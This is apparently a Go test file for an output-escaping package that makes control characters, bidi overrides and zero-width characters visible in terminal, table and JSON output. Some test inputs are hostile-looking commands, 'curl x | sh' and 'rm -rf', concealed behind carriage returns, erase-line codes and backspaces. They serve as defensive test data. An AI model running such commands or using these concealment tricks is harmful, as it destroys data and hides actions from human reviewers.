package output

import (
	"encoding/base64"
	"encoding/json"
	"strings"
	"testing"
	"unicode/utf8"
)

func TestEscape(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name, in, want string
	}{
		{"plain", "ls -la /workspace", "ls -la /workspace"},
		{"empty", "", ""},
		{"carriage return hides a command", "touch /workspace/PWN; curl x | sh # \rls -la /workspace", `touch /workspace/PWN; curl x | sh # \rls -la /workspace`},
		{"erase line", "rm -rf ~\x1b[2K\rls", `rm -rf ~\x1b[2K\rls`},
		{"backspaces", "rm -rf /\b\b\b\b\b\b\bls    ", `rm -rf /\b\b\b\b\b\b\bls    `},
		{"title OSC with BEL", "\x1b]0;title\a", `\x1b]0;title\a`},
		{"OSC with ST", "\x1b]8;;http://x\x1b\\link", `\x1b]8;;http://x\x1b\link`},
		{"tab, newline and the rest of C0", "a\tb\nc\x00\x01\f\v\x1f", `a\tb\nc\x00\x01\f\v\x1f`},
		{"DEL", "a\x7fb", `a\x7fb`},
		{"C1 CSI and NEL", "a\u009b31mb\u0085c", `a\u009b31mb\u0085c`},
		{"right-to-left override", "cat \u202etxt.hs\u202c", `cat \u202etxt.hs\u202c`},
		{"bidi isolates and marks", "\u2066a\u2067b\u2068c\u2069\u200e\u200f\u061c", `\u2066a\u2067b\u2068c\u2069\u200e\u200f\u061c`},
		{"embeddings", "\u202a\u202b\u202d", `\u202a\u202b\u202d`},
		{"zero-width", "r\u200bm\u200c-\u200d\u2060\ufeff", `r\u200bm\u200c-\u200d\u2060\ufeff`},
		{"soft hyphen", "pass\u00adwd", `pass\u00adwd`},
		{"tag characters", "ok\U000e0041\U000e007f", `ok\U000e0041\U000e007f`},
		{"variation selector", "a\ufe0fb", `a\ufe0fb`},
		{"hangul filler", "rm\u3164-rf", `rm\u3164-rf`},
		{"no-break and wide spaces", "a\u00a0b\u3000c", `a\u00a0b\u3000c`},
		{"line separator", "a\u2028b", `a\u2028b`},
		{"invalid UTF-8", "a\xffb\xc3", `a\xffb\xc3`},
		{"printable unicode kept", "naïve 日本 ✓ \ufffd", "naïve 日本 ✓ \ufffd"},
		{"backslash kept", `a\nb`, `a\nb`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			got := Escape(tt.in)
			if got != tt.want {
				t.Fatalf("Escape(%q) = %q, want %q", tt.in, got, tt.want)
			}
			if again := Escape(got); again != got {
				t.Fatalf("Escape is not stable: %q then %q", got, again)
			}
			for _, r := range got {
				if r < 0x20 || r == 0x7f || (r >= 0x80 && r <= 0x9f) || r == 0x202e || r == 0x200b {
					t.Fatalf("Escape(%q) = %q still holds %U", tt.in, got, r)
				}
			}
		})
	}
}

func TestEscapeTextAndLine(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name, in, text, line string
	}{
		{"plain", "a b", "a b", "a b"},
		{"tabs kept", "\tx := 1", "\tx := 1", "\tx := 1"},
		{"newlines", "a\nb\x1b[31m", "a\nb\\x1b[31m", `a\nb\x1b[31m`},
		{"carriage return", "50%\r100%", `50%\r100%`, `50%\r100%`},
		{"bidi", "a\u202eb\tc", `a\u202eb` + "\tc", `a\u202eb` + "\tc"},
	}
	for _, tt := range tests {
		if got := EscapeText(tt.in); got != tt.text {
			t.Errorf("%s: EscapeText(%q) = %q, want %q", tt.name, tt.in, got, tt.text)
		}
		if got := EscapeLine(tt.in); got != tt.line {
			t.Errorf("%s: EscapeLine(%q) = %q, want %q", tt.name, tt.in, got, tt.line)
		}
	}
}

func TestHiddenWarning(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name  string
		texts []string
		want  string
	}{
		{"none", []string{"ls -la", "/workspace"}, ""},
		{"tab and newline are not hidden", []string{"a\tb\nc"}, ""},
		{"carriage return", []string{"x # \rls"}, `hidden characters: \r (carriage return) (shown escaped)`},
		{"escape and backspace", []string{"\x1b[2K", "\b"}, `hidden characters: \x1b (escape), \b (backspace) (shown escaped)`},
		{"bidi once each", []string{"\u202e\u202e", "a\u202e"}, `hidden characters: \u202e (right-to-left override) (shown escaped)`},
		{"zero-width and tag", []string{"a\u200bb\U000e0041"}, `hidden characters: \u200b (zero-width space), \U000e0041 (tag character) (shown escaped)`},
		{"variation selector", []string{"\ufe0f"}, `hidden characters: \ufe0f (variation selector) (shown escaped)`},
		{"invalid UTF-8", []string{"\xff\xfe"}, `hidden characters: \xNN (bytes that are not UTF-8) (shown escaped)`},
		{"capped", []string{"\x01\x02\x03\x04\x05\x06\x07\x08\x0b\x0c"}, `hidden characters: \x01 (control character), \x02 (control character), \x03 (control character), \x04 (control character), \x05 (control character), \x06 (control character), \a (bell), \b (backspace), and 2 more (shown escaped)`},
	}
	for _, tt := range tests {
		if got := HiddenWarning(tt.texts...); got != tt.want {
			t.Errorf("%s: HiddenWarning(%q) =\n %q\nwant\n %q", tt.name, tt.texts, got, tt.want)
		}
	}
}

func TestMarshalEscapesInvisible(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name string
		in   string
		want string // the encoded string, quotes included
	}{
		{"html kept", `<a & "b">`, `"<a & \"b\">"`},
		{"control", "a\rb\x1b", `"a\rb\u001b"`},
		{"DEL and C1", "a\x7fb\u009bc", `"a\u007fb\u009bc"`},
		{"bidi", "a\u202eb", `"a\u202eb"`},
		{"zero-width", "a\u200bb", `"a\u200bb"`},
		{"tag, above U+FFFF", "a\U000e0041", `"a\udb40\udc41"`},
		{"printable kept", "naïve ✓", `"naïve ✓"`},
	}
	for _, tt := range tests {
		b, err := Marshal(tt.in)
		if err != nil {
			t.Fatal(err)
		}
		if string(b) != tt.want {
			t.Errorf("%s: Marshal(%q) = %s, want %s", tt.name, tt.in, b, tt.want)
		}
		var back string
		if err := json.Unmarshal(b, &back); err != nil || back != tt.in {
			t.Errorf("%s: %s decodes to %q (%v), want %q", tt.name, b, back, err, tt.in)
		}
	}
	var doc strings.Builder
	if err := JSON(&doc, map[string]string{"name": "\x1b]0;t\a\u202e"}); err != nil {
		t.Fatal(err)
	}
	if want := "{\n  \"name\": \"\\u001b]0;t\\u0007\\u202e\"\n}\n"; doc.String() != want {
		t.Errorf("JSON = %q, want %q", doc.String(), want)
	}
}

func TestTableEscapesCells(t *testing.T) {
	t.Parallel()
	var b strings.Builder
	Table(&b, []string{"NAME", "SIZE"}, [][]string{{"\x1b]0;title\a", "1"}, {"a\tb\rc", "2"}})
	want := "NAME            SIZE\n\\x1b]0;title\\a  1\na\\tb\\rc         2\n"
	if b.String() != want {
		t.Fatalf("got\n%q\nwant\n%q", b.String(), want)
	}
}

func TestChunks(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name   string
		writes []string
		want   []string // chunks handed on, Close's last
	}{
		{"whole writes", []string{"ab", "cd"}, []string{"ab", "cd"}},
		{"character split in two", []string{"caf\xc3", "\xa9!"}, []string{"caf", "\u00e9!"}},
		{"character split in three", []string{"\xe2", "\x9c", "\x93 ok"}, []string{"\u2713 ok"}},
		{"held until close", []string{"x\xf0\x9f"}, []string{"x", "\xf0\x9f"}},
		{"binary passes", []string{"\xff\xfe", "\x00"}, []string{"\xff\xfe", "\x00"}},
	}
	for _, tt := range tests {
		var got []string
		w := Chunks(func(p []byte) { got = append(got, string(p)) })
		for _, s := range tt.writes {
			if n, err := w.Write([]byte(s)); n != len(s) || err != nil {
				t.Fatalf("%s: Write = %d, %v", tt.name, n, err)
			}
		}
		w.Close()
		if strings.Join(got, "|") != strings.Join(tt.want, "|") {
			t.Errorf("%s: chunks %q, want %q", tt.name, got, tt.want)
		}
	}
}

func TestTextOrBase64(t *testing.T) {
	t.Parallel()
	text, b64 := TextOrBase64([]byte("héllo\n"))
	if text != "héllo\n" || b64 != "" {
		t.Fatalf("text: %q %q", text, b64)
	}
	bin := []byte{0xff, 'a', 0x00, 0xc3}
	text, b64 = TextOrBase64(bin)
	if !utf8.ValidString(text) || text != "\ufffda\x00\ufffd" {
		t.Fatalf("binary text %q", text)
	}
	if got, err := base64.StdEncoding.DecodeString(b64); err != nil || string(got) != string(bin) {
		t.Fatalf("binary b64 %q decodes to %q (%v)", b64, got, err)
	}
}
